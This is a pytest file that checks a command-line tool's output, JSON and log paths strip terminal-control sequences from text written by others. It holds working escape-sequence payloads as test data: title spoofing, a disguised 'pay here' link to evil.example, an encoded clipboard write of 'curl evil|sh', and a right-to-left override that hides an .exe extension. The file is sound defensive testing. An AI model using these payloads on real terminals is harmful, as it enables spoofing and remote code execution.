"""Attacks on a terminal by what others wrote, against each way by which words reach one."""

import io
import json
import logging

import pytest
import structlog
from rich.console import Console

from elite8.cli import output
from elite8.core import log, visible

TITLE = "\x1b]0;you are root\x07"
LINK = "\x1b]8;;https://evil.example\x1b\\pay here\x1b]8;;\x1b\\"
CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsfHNo\x07"
C1 = "\x9b2J\x9d0;x\x9c"
TURNED = "gnp.\u202etxt.exe"
ISOLATED = "\u2066a\u2069\u2028"
HALF = "\ud83d"
OVER = "\x1b[2J\x1b[1;1H"
ATTACKS = [TITLE, LINK, CLIPBOARD, C1, TURNED, ISOLATED, HALF, "a\rb", OVER, "\x00\x7f"]
STEERS = set("\x1b\x07\x9b\x9c\x9d\r\x00\x7f\u202e\u2066\u2069\u2028\ud83d")
HARMLESS = [
    "plain",
    "桜みゆき 🎤 👩\u200d🎤",
    "a\tb\nc",
    "naïve «q» 🏴\U000e0067\U000e0062\U000e007f",
    "עברית\u200e!",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_word_of_others_steers_a_terminal(
    attack: str, capsys: pytest.CaptureFixture[str]
) -> None:
    output.write(attack)
    output.say(attack)
    output.write(output.table(("name", "post"), [(attack, f"x{attack}")]))
    seen = capsys.readouterr()
    assert not STEERS & set(seen.out + seen.err)
    assert visible.INSTEAD in seen.out


@pytest.mark.parametrize("attack", ATTACKS)
def test_json_says_the_very_same_and_steers_nothing(
    attack: str, capsys: pytest.CaptureFixture[str]
) -> None:
    output.write_json("x", {"name": attack})
    said = capsys.readouterr().out
    assert not STEERS & set(said)
    assert json.loads(said)["data"]["name"] == attack


@pytest.mark.parametrize("style", ["columns", "json"])
@pytest.mark.parametrize("attack", ATTACKS)
def test_no_log_line_steers_a_terminal(
    attack: str, style: str, capsys: pytest.CaptureFixture[str]
) -> None:
    log.configure("info", style)
    log.get().warning("post.refused", why=attack, more=[attack], about={"who": attack})
    said = capsys.readouterr().err
    assert not STEERS & set(said)
    assert "post.refused" in said
    structlog.reset_defaults()
    logging.getLogger("httpx").setLevel(logging.NOTSET)


@pytest.mark.parametrize("text", HARMLESS)
def test_what_is_only_read_stays_as_it_is(text: str) -> None:
    assert visible.harmless(text) == text
    assert visible.escaped(text) == text


def test_markup_of_rich_is_text(capsys: pytest.CaptureFixture[str]) -> None:
    output.write(output.table(("a",), [("[link=https://evil.example]x[/link][/]",)]))
    assert "[link=https://evil.example]x[/link][/]" in capsys.readouterr().out


def test_a_table_stays_straight_whatever_is_in_it() -> None:
    drawn = io.StringIO()
    rows = [(TITLE, "1"), ("plain", "2")]
    Console(file=drawn, width=80).print(output.table(("who", "n"), rows))
    _, _, first, second = drawn.getvalue().rstrip().splitlines()
    assert first.index("1") == second.index("2")
